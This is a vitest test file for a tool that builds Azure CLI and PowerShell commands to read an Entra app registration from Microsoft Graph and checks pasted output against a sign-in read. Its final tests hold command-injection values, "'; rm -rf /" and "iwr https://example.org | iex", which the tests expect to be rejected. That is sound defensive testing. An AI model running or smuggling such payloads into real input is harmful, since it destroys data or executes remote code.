import { describe, expect, test } from 'vitest';
import { judge, needsOf, nextQuestion, scopesOf, searchOf, type Result } from '../../src/checks';
import { commandId } from '../../src/checks/guid';
import { commandPaths, commandsFor } from '../../src/import/commands';
import { recognise } from '../../src/import/recognise';
import { emulate } from '../../src/emulator/emulate';
import { demos } from '../../src/emulator/tenants';
import type { Demo } from '../../src/emulator/tenants/demo';
import { openDemo } from '../../src/emulator/tenants/open';
import { demoToken } from '../../src/emulator/token';
import { nearMisses } from '../../src/emulator/tenants/near-misses';
import { reindex, type Tenant } from '../../src/emulator/tenant';
import { collect } from '../../src/tenant/collect';
import { openGraph } from '../../src/tenant/graph';
import type { Snapshot } from '../../src/tenant/snapshot';
import { inputsOf } from '../../src/ui/session/inputs';
import { stepNumber } from '../../src/checks/guide';
import { realGuide } from '../guide/real-guide';
import { NOW } from './recorded';

const GRAPH = 'https://graph.microsoft.com';
const guide = realGuide();
const search = searchOf(guide);
const api = search.api ?? '';

const formOf = (demo: Demo) => ({ ...demo.inputs, evidence: demo.evidence ?? '', pastedAt: NOW, ticks: [] });

/** What the page reads with a sign-in. */
const readBySignIn = async (demo: Demo): Promise<Snapshot> => {
  const { account, token, fetch } = openDemo(demo, scopesOf(guide), NOW);
  const inputs = inputsOf(formOf(demo), undefined);
  return collect({
    graph: openGraph({ root: GRAPH, token: await token(), fetch }),
    needs: needsOf(guide),
    ask: { ...search, clientId: inputs.clientId },
    account,
    source: 'demo',
    now: NOW,
    next: (first) => nextQuestion(guide, first, inputs, NOW),
  });
};

type Print = (body: unknown, status: number) => string;

/** `az rest` prints the body, and an error as „Not Found({…})“ (azure-cli, util.py, send_raw_request). */
const az: Print = (body, status) =>
  status < 400
    ? JSON.stringify(body, null, 2)
    : `ERROR: ${status === 404 ? 'Not Found' : 'Forbidden'}(${JSON.stringify(body)})`;
/** `Invoke-MgGraphRequest -OutputType Json` prints the body as it came. */
const powerShell: Print = (body) => JSON.stringify(body);

/** What the command lines print in a tenant. */
const output = async (tenant: Tenant, appId: string, print: Print, scopes = scopesOf(guide)) => {
  const send = emulate(tenant, { now: () => NOW });
  const headers = { Authorization: `Bearer ${demoToken(scopes)}` };
  const parts = commandPaths({ appId, api }).map(async (path) => {
    const response = await send(`${GRAPH}/v1.0${path}`, { headers });
    return `GET /v1.0${path}\n${print(await response.json(), response.status)}\n`;
  });
  return (await Promise.all(parts)).join('');
};

const judged = (demo: Demo, snapshot: Snapshot) =>
  judge(guide, { snapshot, inputs: inputsOf(formOf(demo), snapshot), now: NOW });

/** Steps 3 to 10, but for where it was read. */
const comparable = (results: readonly Result[]) =>
  results
    .filter(({ number }) => stepNumber(number) >= 3 && stepNumber(number) <= 10)
    .map(({ proof: _, ...result }) => result);

const changed = (change: (tenant: Tenant) => void): Demo => ({
  ...fertig,
  tenant: (now) => {
    const tenant = fertig.tenant(now);
    change(tenant);
    return reindex(tenant);
  },
});

const { fertig } = demos as { fertig: Demo };
const own = ({ appId }: { readonly appId: string }) => appId === fertig.inputs.clientId;

/** Only the directory knows whose secret it is: the lines read one registration and no other. */
const OF_A_SIBLING = 'schluessel-andere-app';

const tenants: Readonly<Record<string, Demo>> = {
  // The lines carry the id typed: without the right one there is nothing to compare.
  ...Object.fromEntries(
    Object.entries({ ...demos, ...nearMisses }).filter(
      ([name, { inputs }]) => inputs.clientId === fertig.inputs.clientId && name !== OF_A_SIBLING,
    ),
  ),
  'no enterprise app': changed((tenant) => {
    tenant.servicePrincipals = tenant.servicePrincipals.filter((one) => !own(one));
  }),
  'no Exchange Online': changed((tenant) => {
    tenant.servicePrincipals = tenant.servicePrincipals.filter(({ appId }) => appId !== api);
  }),
  'registration deactivated': changed((tenant) => {
    for (const one of tenant.applications.filter(own)) Object.assign(one, { isDisabled: true });
  }),
  'enterprise app deactivated': changed((tenant) => {
    for (const one of tenant.servicePrincipals.filter(own)) Object.assign(one, { isDisabled: true });
  }),
  'enterprise app switched off': changed((tenant) => {
    for (const one of tenant.servicePrincipals.filter(own)) Object.assign(one, { accountEnabled: false });
  }),
};

describe.each(Object.entries(tenants))('in „%s“', (_, demo) => {
  test.each([
    ['Azure CLI', az],
    ['PowerShell', powerShell],
  ])('what %s prints is judged as what a sign-in reads', async (_, print) => {
    const text = await output(demo.tenant(NOW), demo.inputs.clientId, print);
    const found = recognise(text, { now: NOW, search });
    if (found.is !== 'registration') throw new Error(`recognised as ${found.is}`);
    expect(found.remarks).toEqual([]);
    const byPaste = judged(demo, found.snapshot);
    expect(comparable(byPaste)).toEqual(comparable(judged(demo, await readBySignIn(demo))));
    const judgedSteps = byPaste.filter(({ proof, number }) => proof && stepNumber(number) >= 3);
    expect(judgedSteps.map(({ proof }) => proof)).not.toContain('graph');
  });
});

test.each([
  ['the command line echoed before it', (text: string, line: string) => `PS C:\\> ${line}\n${text}PS C:\\> `],
  ['a console that breaks lines after 80 characters', (text: string) => text.replace(/(.{80})/g, '$1\r\n')],
])('the output is understood with %s', async (_, change) => {
  const demo = tenants['no enterprise app'] ?? fertig;
  const appId = demo.inputs.clientId;
  const text = await output(demo.tenant(NOW), appId, powerShell);
  const lines = commandsFor({ appId, api });
  for (const line of [lines?.bash[0], lines?.windows[0], lines?.graph[1]]) {
    const found = recognise(change(text, line ?? ''), { now: NOW, search });
    if (found.is !== 'registration') throw new Error(`recognised as ${found.is}`);
    expect(found.remarks).toEqual([]);
    expect(comparable(judged(demo, found.snapshot))).toEqual(comparable(judged(demo, await readBySignIn(demo))));
  }
});

test('steps 1 and 2 are never proved by a paste', async () => {
  const found = recognise(await output(fertig.tenant(NOW), fertig.inputs.clientId, az), { now: NOW, search });
  if (found.is !== 'registration') throw new Error(`recognised as ${found.is}`);
  const before = judged(fertig, found.snapshot).filter(({ number }) => stepNumber(number) < 3);
  expect(before.map(({ status }) => status)).toEqual(['unknown', 'unknown', 'unknown']);
});

test('where the id belongs to no registration there, the reason says so', async () => {
  const { leer } = demos as { leer: Demo };
  const text = await output(leer.tenant(NOW), fertig.inputs.clientId, az);
  expect(recognise(text, { now: NOW, search })).toMatchObject({ is: 'nothing', why: 'nothing-found' });
});

test('a refusal is told as a refusal', async () => {
  const text = await output(fertig.tenant(NOW), fertig.inputs.clientId, az, ['User.Read']);
  expect(recognise(text, { now: NOW, search })).toMatchObject({ is: 'nothing', why: 'refused' });
});

test('the lines carry the ids and nothing a shell would read otherwise', () => {
  const appId = fertig.inputs.clientId;
  const commands = commandsFor({ appId, api });
  expect(commands).toMatchInlineSnapshot(`
    {
      "bash": [
        "az account show --output none 2>/dev/null || az login --allow-no-subscriptions --output none; for p in "/organization?\\$select=id,displayName,verifiedDomains" "/applications(appId='8a1d4f70-52b3-4c96-8e1f-d37b60a9c215')?\\$select=id,appId,displayName,createdDateTime,signInAudience,publicClient,web,spa,passwordCredentials,requiredResourceAccess,disabledByMicrosoftStatus,deletedDateTime,keyCredentials" "/applications(appId='8a1d4f70-52b3-4c96-8e1f-d37b60a9c215')?\\$select=id,isDisabled" "/servicePrincipals(appId='8a1d4f70-52b3-4c96-8e1f-d37b60a9c215')?\\$select=id,appId,displayName,accountEnabled,appOwnerOrganizationId,disabledByMicrosoftStatus,deletedDateTime,passwordCredentials" "/servicePrincipals(appId='8a1d4f70-52b3-4c96-8e1f-d37b60a9c215')?\\$select=id,isDisabled" "/servicePrincipals(appId='8a1d4f70-52b3-4c96-8e1f-d37b60a9c215')/appRoleAssignments" "/servicePrincipals(appId='00000002-0000-0ff1-ce00-000000000000')?\\$select=id,appId,displayName,accountEnabled,disabledByMicrosoftStatus,deletedDateTime,appRoles,oauth2PermissionScopes"; do echo "GET /v1.0$p"; az rest --method get --url "https://graph.microsoft.com/v1.0$p" 2>&1; done",
      ],
      "graph": [
        "Connect-MgGraph -NoWelcome -Scopes 'Application.Read.All','User.Read'",
        "'/organization?$select=id,displayName,verifiedDomains','/applications(appId=''8a1d4f70-52b3-4c96-8e1f-d37b60a9c215'')?$select=id,appId,displayName,createdDateTime,signInAudience,publicClient,web,spa,passwordCredentials,requiredResourceAccess,disabledByMicrosoftStatus,deletedDateTime,keyCredentials','/applications(appId=''8a1d4f70-52b3-4c96-8e1f-d37b60a9c215'')?$select=id,isDisabled','/servicePrincipals(appId=''8a1d4f70-52b3-4c96-8e1f-d37b60a9c215'')?$select=id,appId,displayName,accountEnabled,appOwnerOrganizationId,disabledByMicrosoftStatus,deletedDateTime,passwordCredentials','/servicePrincipals(appId=''8a1d4f70-52b3-4c96-8e1f-d37b60a9c215'')?$select=id,isDisabled','/servicePrincipals(appId=''8a1d4f70-52b3-4c96-8e1f-d37b60a9c215'')/appRoleAssignments','/servicePrincipals(appId=''00000002-0000-0ff1-ce00-000000000000'')?$select=id,appId,displayName,accountEnabled,disabledByMicrosoftStatus,deletedDateTime,appRoles,oauth2PermissionScopes' | ForEach-Object { "GET /v1.0$_"; Invoke-MgGraphRequest -Method GET -Uri ('https://graph.microsoft.com/v1.0' + $_) -OutputType Json -SkipHttpErrorCheck }",
      ],
      "windows": [
        "az login --allow-no-subscriptions --output none; '/organization?$select=id,displayName,verifiedDomains','/applications(appId=''8a1d4f70-52b3-4c96-8e1f-d37b60a9c215'')?$select=id,appId,displayName,createdDateTime,signInAudience,publicClient,web,spa,passwordCredentials,requiredResourceAccess,disabledByMicrosoftStatus,deletedDateTime,keyCredentials','/applications(appId=''8a1d4f70-52b3-4c96-8e1f-d37b60a9c215'')?$select=id,isDisabled','/servicePrincipals(appId=''8a1d4f70-52b3-4c96-8e1f-d37b60a9c215'')?$select=id,appId,displayName,accountEnabled,appOwnerOrganizationId,disabledByMicrosoftStatus,deletedDateTime,passwordCredentials','/servicePrincipals(appId=''8a1d4f70-52b3-4c96-8e1f-d37b60a9c215'')?$select=id,isDisabled','/servicePrincipals(appId=''8a1d4f70-52b3-4c96-8e1f-d37b60a9c215'')/appRoleAssignments','/servicePrincipals(appId=''00000002-0000-0ff1-ce00-000000000000'')?$select=id,appId,displayName,accountEnabled,disabledByMicrosoftStatus,deletedDateTime,appRoles,oauth2PermissionScopes' | ForEach-Object { "GET /v1.0$_"; az rest --method get --url ('"https://graph.microsoft.com/v1.0' + $_ + '"') }",
      ],
    }
  `);
  expect(commandsFor({ appId: `${appId}'; rm -rf /`, api })).toBeUndefined();
  expect(commandsFor({ appId, api: '' })).toBeUndefined();
  expect(commandsFor({ appId, api, graph: 'https://graph.microsoft.com"; x' })).toBeUndefined();
});

test('another cloud is named in every line', () => {
  const lines = commandsFor({ appId: fertig.inputs.clientId, api, graph: 'https://graph.microsoft.us' });
  expect(lines?.bash[0]).toContain('--resource https://graph.microsoft.us');
  expect(lines?.graph[0]).toContain('-Environment USGov ');
});

test.each([
  ["x'; iwr https://example.org | iex; $z='", undefined],
  [`8a1d4f70-52b3-4c96-8e1f-d37b60a9c215'; rm -rf /`, undefined],
  ['8a1d4f70-52b3-4c96-8e1f-d37b60a9c215\n', '8a1d4f70-52b3-4c96-8e1f-d37b60a9c215'],
  [' 8A1D4F70-52B3-4C96-8E1F-D37B60A9C215 ', '8A1D4F70-52B3-4C96-8E1F-D37B60A9C215'],
  ['8a1d4f7052b34c968e1fd37b60a9c215', undefined],
  ['', undefined],
  [undefined, undefined],
])('only a GUID may become part of a command: %j', (typed, id) => {
  expect(commandId(typed)).toBe(id);
});
